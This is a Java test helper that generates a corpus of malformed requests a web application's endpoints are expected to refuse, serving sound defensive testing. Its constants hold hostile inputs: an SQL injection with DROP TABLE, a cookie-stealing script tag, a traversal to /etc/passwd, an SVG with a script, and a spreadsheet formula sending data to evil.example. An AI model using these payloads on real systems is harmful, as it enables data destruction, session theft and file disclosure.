package org.kaifang.web;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.kaifang.testing.SampleFiles;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * The bad-input corpus: malformed requests generated from a template per endpoint (a valid request and the type of
 * each of its fields), so that every field of every endpoint that takes input gets the same battery of wrong types,
 * missing values, limits, impossible dates, invalid Unicode and injection strings, and every body gets the same
 * malformed JSON, wrong content types and oversized variants. Each generated request must be refused.
 */
final class BadInputCorpus {

    private static final JsonMapper JSON = JsonMapper.builder().build();

    /** How a refusal looks. */
    enum Expect {
        /** 4xx {@code application/problem+json}. */
        PROBLEM,
        /** A page form: a 4xx page, the form re-shown with its errors, or back to the page with an error named. */
        FORM,
        /** A page's query: a page that is no 5xx (a bad filter is ignored or reported). */
        PAGE
    }

    /**
     * One malformed request.
     *
     * @param role who sends it (see {@link BadInputCorpusIntegrationTests})
     * @param body the raw bytes, with placeholders only in {@code path}; page forms get their CSRF token added
     */
    record Case(
            String name,
            String role,
            String method,
            String path,
            String contentType,
            byte[] body,
            Map<String, String> headers,
            Expect expect) {

        @Override
        public String toString() {
            return name;
        }
    }

    /** A field of a template: where it is (a JSON pointer, or a form field's name), what it is, and if it is needed. */
    record Field(String at, Type type, boolean required) {}

    enum Type {
        DATE,
        INTEGER,
        /** A share or percentage, 0 to 100. */
        PERCENT,
        /** An amount of money, not negative. */
        AMOUNT,
        ENUM,
        TEXT,
        CODE,
        ARRAY,
        OBJECT
    }

    static final String SQL = "' OR '1'='1'; DROP TABLE applications.application; --";
    static final String HTML = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>";
    static final String TRAVERSAL = "../../../../etc/passwd";
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    static final String LONE_SURROGATE = "\\ud800";
    static final String NUL = "\\u0000";

    /** Values no field of the type accepts, as JSON literals. */
    static List<String> wrongValues(Type type, boolean required) {
        var values = new ArrayList<String>();
        switch (type) {
            case DATE ->
                values.addAll(List.of(
                        "\"2025-02-30\"",
                        "\"2025-13-01\"",
                        "\"2025-00-10\"",
                        "\"2023-02-29\"",
                        "\"25-06-01\"",
                        "\"2025/06/01\"",
                        "\"01.06.2025\"",
                        "\"yesterday\"",
                        "\"+999999999-12-31\"",
                        "\"-999999999-01-01\"",
                        "\"2025-06-01T00:00:00Z\"",
                        "20250601",
                        "true",
                        "[]",
                        "{}"));
            case INTEGER ->
                values.addAll(List.of(
                        "-1",
                        "9223372036854775808",
                        "-9223372036854775809",
                        "1e309",
                        "1.5",
                        "\"12\"",
                        "true",
                        "[]",
                        "{}",
                        "\"NaN\"",
                        "\"=1+2\""));
            case PERCENT, AMOUNT -> {
                values.addAll(List.of(
                        "-1", "1e309", "-1e309", "\"ten\"", "true", "[]", "{}", "\"NaN\"", "\"Infinity\"", "\"=1+2\""));
                if (type == Type.PERCENT) {
                    values.add("100.0000000000000000000000000000001");
                }
            }
            case ENUM ->
                values.addAll(List.of(
                        "\"NOT_A_VALUE\"",
                        "\"\"",
                        "1",
                        "true",
                        "[]",
                        "{}",
                        json(SQL),
                        json(HTML),
                        json(TRAVERSAL),
                        json(FORMULA),
                        "\"" + LONE_SURROGATE + "\"",
                        "\"" + NUL + "\""));
            case TEXT -> values.addAll(List.of("1", "true", "[]", "{}", "\"\"", "\"   \"", json("x".repeat(100_000))));
            case CODE ->
                values.addAll(List.of(
                        "\"\"",
                        "1",
                        "[]",
                        "{}",
                        json(SQL),
                        json(HTML),
                        json(TRAVERSAL),
                        json(FORMULA),
                        "\"" + LONE_SURROGATE + "\"",
                        json("9".repeat(10_000))));
            case ARRAY -> values.addAll(List.of("{}", "\"x\"", "1", "[1, 2, 3]", "[[[]]]"));
            case OBJECT -> values.addAll(List.of("[]", "\"x\"", "1", "true"));
        }
        if (required) {
            values.add("null");
        }
        return values;
    }

    static String json(String text) {
        return JSON.writeValueAsString(text);
    }

    private final List<Case> cases = new ArrayList<>();

    List<Case> cases() {
        return cases;
    }

    /**
     * A JSON endpoint: every field of {@code valid} made wrong in every way its type allows, required ones missing, an
     * unknown field added ({@code strict}), and the body as a whole malformed.
     */
    BadInputCorpus json(String role, String method, String path, String valid, boolean strict, Field... fields) {
        var label = method + " " + path + " as " + role + ": ";
        for (var field : fields) {
            for (var value : wrongValues(field.type(), field.required())) {
                add(
                        label + field.at() + "=" + abbreviate(value),
                        role,
                        method,
                        path,
                        replace(valid, field.at(), value));
            }
            if (field.required()) {
                add(label + "no " + field.at(), role, method, path, remove(valid, field.at()));
            }
        }
        if (strict) {
            add(label + "an unknown field", role, method, path, replace(valid, "/unknownField", "1"));
        }
        malformed(label, role, method, path, valid);
        return this;
    }

    /** The body as a whole: not JSON, not an object, too deep, too large, not UTF-8, not declared as JSON. */
    private void malformed(String label, String role, String method, String path, String valid) {
        var bodies = new LinkedHashMap<String, String>();
        bodies.put("an empty body", "");
        bodies.put("whitespace", "   \n ");
        bodies.put("an unclosed object", "{");
        bodies.put("a lone brace", "}");
        bodies.put("an array", "[]");
        bodies.put("null", "null");
        bodies.put("a string", "\"text\"");
        bodies.put("a number", "42");
        bodies.put("a missing value", "{\"a\":}");
        bodies.put("single quotes", "{'a':'b'}");
        bodies.put("a trailing comma", valid.substring(0, valid.lastIndexOf('}')) + ",}");
        bodies.put("trailing garbage", valid + " garbage");
        bodies.put("NaN", "{\"a\": NaN}");
        bodies.put("a comment", "/* hi */ " + valid);
        bodies.put("deep nesting", "[".repeat(100_000) + "]".repeat(100_000));
        bodies.put("deep objects", "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000));
        bodies.put("a huge array", "{\"a\":[" + "1,".repeat(200_000) + "1]}");
        for (var e : bodies.entrySet()) {
            add(label + e.getKey(), role, method, path, e.getValue());
        }
        // Bytes that are not UTF-8 inside a string: overlong '/', an encoded lone surrogate, 0xFF, a cut sequence.
        var invalid = new LinkedHashMap<String, byte[]>();
        invalid.put("an overlong UTF-8 sequence", new byte[] {(byte) 0xC0, (byte) 0xAF});
        invalid.put("a UTF-8 encoded lone surrogate", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80});
        invalid.put("the byte 0xFF", new byte[] {(byte) 0xFF, (byte) 0xFE});
        invalid.put("a truncated UTF-8 sequence", new byte[] {(byte) 0xE4, (byte) 0xB8});
        var at = firstString(valid);
        for (var e : invalid.entrySet()) {
            var out = new ByteArrayOutputStream();
            var bytes = valid.getBytes(StandardCharsets.UTF_8);
            out.write(bytes, 0, at);
            out.writeBytes(e.getValue());
            out.write(bytes, at, bytes.length - at);
            cases.add(new Case(
                    label + e.getKey(),
                    role,
                    method,
                    path,
                    "application/json",
                    out.toByteArray(),
                    Map.of(),
                    Expect.PROBLEM));
        }
        var types = List.of(
                "text/plain",
                "application/xml",
                "application/x-www-form-urlencoded",
                "multipart/form-data",
                "application/json-patch+json",
                "");
        for (var type : types) {
            cases.add(new Case(
                    label + "declared as '" + type + "'",
                    role,
                    method,
                    path,
                    type,
                    valid.getBytes(StandardCharsets.UTF_8),
                    Map.of(),
                    Expect.PROBLEM));
        }
        cases.add(new Case(
                label + "a body over a mebibyte",
                role,
                method,
                path,
                "application/json",
                (valid + " ".repeat(1024 * 1024)).getBytes(StandardCharsets.UTF_8),
                Map.of(),
                Expect.PROBLEM));
    }

    /** The offset just inside the first string value of {@code json}, where invalid bytes can go. */
    private static int firstString(String json) {
        var bytes = json.getBytes(StandardCharsets.UTF_8);
        var text = new String(bytes, StandardCharsets.ISO_8859_1);
        var colon = text.indexOf(":\"");
        return colon < 0 ? 1 : colon + 2;
    }

    private void add(String name, String role, String method, String path, String body) {
        cases.add(new Case(
                name,
                role,
                method,
                path,
                "application/json",
                body.getBytes(StandardCharsets.UTF_8),
                Map.of(),
                Expect.PROBLEM));
    }

    /** A JSON API call with a query string or path segment: each wrong value of the parameter. */
    BadInputCorpus query(String role, String template, List<String> values, Expect expect) {
        for (var value : values) {
            var inPath = template.indexOf('?') < 0 || template.indexOf("{}") < template.indexOf('?');
            if (inPath && value.indexOf('\u0000') >= 0) {
                // Tomcat refuses a NUL in the path itself, before any of Kaifang runs; NULs go in queries and bodies.
                continue;
            }
            var path = template.replace("{}", Caller.encode(value).replace("+", "%20"));
            cases.add(new Case(
                    "GET " + template + " as " + role + " with " + abbreviate(value),
                    role,
                    "GET",
                    path,
                    "",
                    new byte[0],
                    Map.of(),
                    expect));
        }
        return this;
    }

    /** Wrong values for a date, a day count or an id in a query string or path. */
    static List<String> wrongTexts(Type type) {
        var values = new ArrayList<String>();
        switch (type) {
            case DATE ->
                values.addAll(List.of(
                        "2025-02-30",
                        "2025-13-01",
                        "2023-02-29",
                        "2025/06/01",
                        "yesterday",
                        "+999999999-12-31",
                        "-999999999-01-01",
                        "0000-00-00"));
            case INTEGER -> values.addAll(List.of("-1", "0", "99999999999999999999", "1.5", "ten", "1e9", "0x10"));
            case CODE -> values.addAll(List.of("NOT_A_VALUE", "x".repeat(5000), "\u00e9\u0000"));
            default -> {}
        }
        values.addAll(List.of(SQL, HTML, TRAVERSAL, FORMULA, "%", "\ud800"));
        return values;
    }

    /**
     * A page form: the valid fields with one made wrong at a time ({@code wrong} per field), and required ones left
     * out.
     */
    BadInputCorpus form(String role, String path, Map<String, String> valid, Map<String, List<String>> wrong) {
        for (var field : wrong.entrySet()) {
            for (var value : field.getValue()) {
                var fields = new LinkedHashMap<>(valid);
                if (value == null) {
                    fields.remove(field.getKey());
                } else {
                    fields.put(field.getKey(), value);
                }
                cases.add(new Case(
                        "POST " + path + " as " + role + ": " + field.getKey() + "="
                                + (value == null ? "(missing)" : abbreviate(value)),
                        role,
                        "POST",
                        path,
                        "application/x-www-form-urlencoded",
                        Caller.form(fields).getBytes(StandardCharsets.UTF_8),
                        Map.of(),
                        Expect.FORM));
            }
        }
        var big = new LinkedHashMap<>(valid);
        big.put(valid.keySet().iterator().next(), "x".repeat(300 * 1024));
        cases.add(new Case(
                "POST " + path + " as " + role + ": a form over the form size limit",
                role,
                "POST",
                path,
                "application/x-www-form-urlencoded",
                Caller.form(big).getBytes(StandardCharsets.UTF_8),
                Map.of(),
                Expect.FORM));
        return this;
    }

    /** A multipart upload, page or API: each broken part, and the envelope broken. */
    BadInputCorpus multipart(String role, String path, Map<String, String> fields, Map<String, List<String>> wrong) {
        var expect = path.startsWith("/api/") ? Expect.PROBLEM : Expect.FORM;
        var label = "POST " + path + " (multipart) as " + role + ": ";
        for (var field : wrong.entrySet()) {
            for (var value : field.getValue()) {
                var multipart = new Caller.Multipart();
                fields.forEach((k, v) -> {
                    if (!k.equals(field.getKey())) {
                        multipart.field(k, v);
                    }
                });
                if (value != null) {
                    multipart.field(field.getKey(), value);
                }
                multipart.file("file", "articles.pdf", "application/pdf", SampleFiles.pdf());
                add(
                        label + field.getKey() + "=" + (value == null ? "(missing)" : abbreviate(value)),
                        role,
                        path,
                        multipart,
                        expect);
            }
        }
        var files = new LinkedHashMap<String, byte[]>();
        files.put("an empty file", new byte[0]);
        files.put("an HTML page", SampleFiles.html());
        files.put("a ZIP archive", SampleFiles.zip());
        files.put("a PDF with a ZIP appended", SampleFiles.concat(SampleFiles.pdf(), SampleFiles.zip()));
        files.put("an executable", "MZ\u0090\u0000\u0003".getBytes(StandardCharsets.ISO_8859_1));
        files.put(
                "an SVG with a script",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                        .getBytes(StandardCharsets.UTF_8));
        files.put("CSV with formulas", (FORMULA + ",=1+2\n").getBytes(StandardCharsets.UTF_8));
        for (var file : files.entrySet()) {
            var multipart = new Caller.Multipart();
            fields.forEach(multipart::field);
            multipart.file("file", "../../" + TRAVERSAL + ".pdf", "application/pdf", file.getValue());
            add(label + file.getKey(), role, path, multipart, expect);
        }
        var none = new Caller.Multipart();
        fields.forEach(none::field);
        add(label + "no file", role, path, none, expect);
        var envelope = new Caller.Multipart();
        fields.forEach(envelope::field);
        envelope.file("file", "a.pdf", "application/pdf", SampleFiles.pdf());
        var whole = envelope.body();
        cases.add(new Case(
                label + "a cut-off envelope",
                role,
                "POST",
                path,
                envelope.contentType(),
                java.util.Arrays.copyOf(whole, whole.length / 2),
                Map.of(),
                expect));
        cases.add(new Case(label + "no boundary", role, "POST", path, "multipart/form-data", whole, Map.of(), expect));
        cases.add(new Case(
                label + "a wrong boundary",
                role,
                "POST",
                path,
                "multipart/form-data; boundary=not-the-boundary",
                whole,
                Map.of(),
                expect));
        return this;
    }

    private void add(String name, String role, String path, Caller.Multipart multipart, Expect expect) {
        cases.add(new Case(
                name,
                role,
                "POST",
                path,
                multipart.contentType(),
                multipart.body(),
                Map.of("multipart", "yes"),
                expect));
    }

    /** Any other case, written out. */
    BadInputCorpus add(Case c) {
        cases.add(c);
        return this;
    }

    /** {@code json} with the value at {@code pointer} set to the JSON literal {@code value}. */
    static String replace(String json, String pointer, String value) {
        var marker = "\"__kaifang_marker__\"";
        var tree = (ObjectNode) JSON.readTree(json);
        var slash = pointer.lastIndexOf('/');
        var parent = slash == 0 ? tree : tree.at(pointer.substring(0, slash));
        var name = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode object) {
            object.put(name, "__kaifang_marker__");
        } else if (parent instanceof tools.jackson.databind.node.ArrayNode array) {
            array.set(Integer.parseInt(name), JSON.getNodeFactory().stringNode("__kaifang_marker__"));
        } else {
            throw new IllegalArgumentException(pointer + " is not in " + json);
        }
        return JSON.writeValueAsString(tree).replace(marker, value);
    }

    /** {@code json} without the value at {@code pointer}. */
    static String remove(String json, String pointer) {
        var tree = (ObjectNode) JSON.readTree(json);
        var slash = pointer.lastIndexOf('/');
        JsonNode parent = slash == 0 ? tree : tree.at(pointer.substring(0, slash));
        if (parent instanceof ObjectNode object) {
            object.remove(pointer.substring(slash + 1));
        }
        return JSON.writeValueAsString(tree);
    }

    static String abbreviate(String text) {
        var flat = text.replace("\n", "\\n");
        return flat.length() <= 40 ? flat : flat.substring(0, 37) + "...(" + flat.length() + ")";
    }
}
